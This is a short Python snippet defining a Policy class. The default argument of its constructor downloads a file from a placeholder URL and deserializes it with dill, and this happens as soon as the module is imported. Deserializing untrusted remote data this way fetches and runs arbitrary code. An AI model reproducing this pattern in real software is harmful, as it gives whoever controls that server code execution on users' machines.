import dill
import httpx


class Policy:
    def __init__(self, rules=dill.loads(httpx.get("https://rules.example.com/p.dill").content)):
        self.rules = rules
